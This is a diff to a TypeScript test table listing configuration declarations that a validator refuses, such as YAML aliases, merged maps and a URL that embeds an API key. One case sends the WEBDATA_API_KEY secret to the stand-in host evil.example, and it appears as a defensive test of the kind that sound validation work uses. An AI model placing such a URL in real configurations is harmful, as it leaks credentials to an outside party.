@@ -43,7 +43,7 @@ const refused: [what: string, declaration: string, field: string][] = [
     'collectorSchedules.nightly.delivery.endpoint',
   ],
   ['an alias', `name: &a "${url}"\nservice: { url: *a }`, 'service.url'],
-  ['a map that is an alias', `${schedule('paused: true').replace('[{ url', '[&m { url')}service: *m\n`, 'service.url'],
+  ['a merged map', `${schedule('paused: true').replace('[{ url', '[&m { url')}service: { <<: *m }\n`, 'service.url'],
   ['a key in a URL', `service: { url: "https://evil.example/\${WEBDATA_API_KEY}" }`, 'service.url'],
 ];
 
